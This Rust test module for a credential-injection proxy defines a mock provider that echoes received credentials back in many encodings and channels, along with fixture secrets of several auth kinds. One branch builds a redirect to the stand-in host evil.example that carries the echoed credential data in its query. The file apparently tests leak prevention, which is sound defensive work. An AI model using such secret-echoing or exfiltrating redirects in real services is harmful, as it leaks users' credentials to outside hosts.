//! A provider that sends the credential back in every way, and a secret of each kind to send it.

use alter_domain::port::SendError;
use alter_tests::Received;
use async_compression::tokio::bufread::GzipEncoder;
use axum::{body::Body, response::Response};
use base64::{Engine as _, engine::general_purpose::STANDARD};
use futures_util::stream;
use http::{HeaderValue, header};
use percent_encoding::{NON_ALPHANUMERIC, percent_encode};
use serde_json::{Value, json};
use tokio::io::AsyncReadExt as _;

/// A provider that sends the credential back, in the way that the path says.
pub(crate) async fn parrot(received: Received) -> Result<Response<Body>, SendError> {
    let way = received.target.split(['?', '#']).next().unwrap().rsplit('/').next().unwrap().to_owned();
    let mut said: Vec<u8> = Vec::new();
    for (name, value) in &received.headers {
        said.extend(format!("{name}: ").bytes().chain(value.as_bytes().iter().copied()).chain(*b"\n"));
    }
    said.extend(received.target.bytes());
    for pair in
        url::form_urlencoded::parse(received.target.split_once('?').map_or("", |(_, query)| query).as_bytes())
    {
        said.extend(pair.1.bytes());
        said.push(b'\n');
    }
    let mut response = Response::new(Body::from(said.clone()));
    let headers = response.headers_mut();
    match way.as_str() {
        "header" => {
            for (number, line) in said.split(|byte| *byte == b'\n').enumerate() {
                let name = format!("x-echo-{number}").parse::<http::HeaderName>().unwrap();
                headers.append(name, HeaderValue::from_bytes(line).unwrap());
            }
        }
        "location" => {
            let query = percent_encode(&said, NON_ALPHANUMERIC).to_string();
            headers.insert(
                header::LOCATION,
                HeaderValue::from_str(&format!("https://evil.example/?q={query}")).unwrap(),
            );
            *response.status_mut() = http::StatusCode::FOUND;
        }
        "percent" => *response.body_mut() = Body::from(percent_encode(&said, NON_ALPHANUMERIC).to_string()),
        "base64" => *response.body_mut() = Body::from(STANDARD.encode(&said)),
        "hex" => *response.body_mut() = Body::from(hex::encode(&said)),
        "json" => {
            *response.body_mut() = Body::from(json!({ "said": String::from_utf8_lossy(&said) }).to_string());
        }
        "gzip" => {
            let mut encoded = Vec::new();
            GzipEncoder::new(said.as_slice()).read_to_end(&mut encoded).await.unwrap();
            headers.insert(header::CONTENT_ENCODING, HeaderValue::from_static("gzip"));
            *response.body_mut() = Body::from(encoded);
        }
        "split" => {
            let bytes = said.into_iter().map(|byte| Ok::<_, std::io::Error>(vec![byte]));
            *response.body_mut() = Body::from_stream(stream::iter(bytes));
        }
        "error" => *response.status_mut() = http::StatusCode::UNAUTHORIZED,
        "broken" => {
            let pieces = [Ok(said), Err(std::io::Error::other("cut"))];
            *response.body_mut() = Body::from_stream(stream::iter(pieces));
        }
        "unreachable" => return Err(SendError::Connect("connection refused".to_owned())),
        "timeout" => return Err(SendError::Timeout),
        _ => {}
    }
    Ok(response)
}

pub(crate) const WAYS: [&str; 14] = [
    "plain",
    "header",
    "location",
    "percent",
    "base64",
    "hex",
    "json",
    "gzip",
    "split",
    "error",
    "broken",
    "unreachable",
    "timeout",
    "elsewhere",
];

/// The ways in which nothing comes back whole, or nothing at all.
pub(crate) const SILENT_WAYS: [&str; 4] = ["broken", "unreachable", "timeout", "elsewhere"];

/// A secret to be stored over the portal.
pub(crate) struct Stored {
    pub(crate) name: &'static str,
    /// The request but for the values.
    pub(crate) body: Value,
    pub(crate) fields: Vec<&'static str>,
    /// Where it may go.
    pub(crate) url: &'static str,
}

/// One of each kind of injection.
pub(crate) fn secrets() -> Vec<Stored> {
    let of = |name, kind, injection: Value, fields: &[&'static str], url: &'static str| Stored {
        name,
        body: {
            let host = url.split('/').nth(2).unwrap();
            let mut body = json!({ "name": name, "credential_type": kind, "allowed_hosts": [host],
                "grant": { "principal": { "type": "system" } } });
            if !injection.is_null() {
                body["injection"] = injection;
            }
            body
        },
        fields: fields.to_vec(),
        url,
    };
    vec![
        of("bearer", "bearer", Value::Null, &["token"], "https://bearer.example.com/"),
        of(
            "header",
            "api_key",
            json!([{ "target": "header", "name": "X-Api" }]),
            &["api_key"],
            "https://header.example.com/",
        ),
        of("basic", "basic", Value::Null, &["username", "password"], "https://basic.example.com/"),
        of(
            "several",
            "custom",
            json!([
                { "target": "query", "name": "key", "format": "{one}" },
                { "target": "header", "name": "Authorization", "format": "Token {two}; {one}" },
                { "target": "header", "name": "X-Pair", "format": "{basic(one:two)}" },
            ]),
            &["one", "two"],
            "https://several.example.com/",
        ),
        of(
            "aws",
            "aws_sigv4",
            Value::Null,
            &["access_key_id", "secret_access_key", "session_token"],
            "https://sqs.eu-west-1.amazonaws.com/",
        ),
    ]
}

/// Identify without proving anything: they may be seen (a user name, an AWS key id).
pub(crate) const PUBLIC: [&str; 2] = ["username", "access_key_id"];
